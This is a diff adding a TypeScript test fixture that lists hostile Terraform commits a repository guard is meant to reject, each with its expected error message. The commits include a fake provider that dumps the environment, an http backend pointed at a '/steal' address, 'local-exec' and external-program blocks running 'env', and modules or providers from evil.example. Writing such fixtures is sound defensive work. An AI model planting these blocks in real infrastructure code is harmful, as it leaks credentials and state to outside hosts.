@@ -1,0 +1,101 @@
+/** What a hostile person commits, and what it is refused for. */
+export const OFFENCES: readonly { does: string; file: string; text: string; says: string }[] = [
+  {
+    does: 'a provider of its own in terraform.d',
+    file: 'terraform.d/plugins/registry.terraform.io/hashicorp/google/6.50.0/linux_amd64/terraform-provider-google',
+    text: '#!/bin/sh\nenv\n',
+    says: 'brings its own providers',
+  },
+  {
+    does: 'a .terraform folder',
+    file: '.terraform/modules/modules.json',
+    text: '{"Modules":[]}',
+    says: 'brings its own modules and backend',
+  },
+  {
+    does: 'an override file',
+    file: 'network_override.tf',
+    text: 'resource "google_compute_network" "main" {}\n',
+    says: 'override files replace what was reviewed',
+  },
+  { does: 'an override file in JSON', file: 'override.tf.json', text: '{}', says: 'override.tf.json' },
+  { does: 'a state', file: 'terraform.tfstate', text: '{}', says: 'a state has no place in a repository' },
+  {
+    does: 'a backend with an address',
+    file: 'backend2.tf',
+    text: 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:1/steal"\n  }\n}\n',
+    says: 'backend "http" must be empty',
+  },
+  {
+    does: 'another backend',
+    file: 'backend3.tf',
+    text: 'terraform {\n  backend "local" {\n    path = "/tmp/x"\n  }\n}\n',
+    says: 'backend "local" would keep the state elsewhere',
+  },
+  {
+    does: 'a cloud block',
+    file: 'cloud.tf',
+    text: 'terraform {\n  cloud {}\n}\n',
+    says: 'a cloud block would keep the state elsewhere',
+  },
+  {
+    does: 'a provider from elsewhere',
+    file: 'provider.tf',
+    text: 'terraform {\n  required_providers {\n    evil = {\n      source = "registry.evil.example/evil/evil"\n    }\n  }\n}\n',
+    says: 'provider "registry.evil.example/evil/evil" is not allowed here',
+  },
+  {
+    does: 'a program as data',
+    file: 'external.tf',
+    text: 'data "external" "env" {\n  program = ["sh", "-c", "env"]\n}\n',
+    says: 'data "external" runs a program during the plan',
+  },
+  {
+    does: 'a program as data, in JSON',
+    file: 'external2.tf.json',
+    text: '{"data":{"external":{"env2":{"program":["env"]}}}}',
+    says: 'external2.tf.json',
+  },
+  {
+    does: 'a request as data, hidden in a check',
+    file: 'check.tf',
+    text: 'check "it" {\n  data "http" "out" {\n    url = "http://127.0.0.1:1"\n  }\n}\n',
+    says: 'data "http" sends requests during the plan',
+  },
+  {
+    does: 'the state of another project',
+    file: 'remote.tf',
+    text: 'data "terraform_remote_state" "other" {\n  backend = "http"\n}\n',
+    says: 'data "terraform_remote_state" reads the state of another project',
+  },
+  {
+    does: 'a module from git',
+    file: 'git.tf',
+    text: 'module "evil" {\n  source = "git::https://evil.example/evil.git"\n}\n',
+    says: 'module source "git::https://evil.example/evil.git"',
+  },
+  {
+    does: 'a module from GitHub, in short',
+    file: 'github.tf',
+    text: 'module "short" {\n  source = "github.com/evil/evil"\n}\n',
+    says: 'module source "github.com/evil/evil"',
+  },
+  {
+    does: 'a module outside of the repository',
+    file: 'outside.tf',
+    text: 'module "outside" {\n  source = "../../../../data"\n}\n',
+    says: 'a module outside of the repository',
+  },
+  {
+    does: 'a provisioner',
+    file: 'provisioner.tf',
+    text: 'resource "terraform_data" "it" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}\n',
+    says: 'provisioner "local-exec" runs a program',
+  },
+  {
+    does: 'a provider that sends credentials elsewhere',
+    file: 'endpoint.tf',
+    text: 'provider "google" {\n  alias                   = "evil"\n  compute_custom_endpoint = "http://127.0.0.1:1/"\n}\n',
+    says: '"compute_custom_endpoint" in a provider block',
+  },
+];
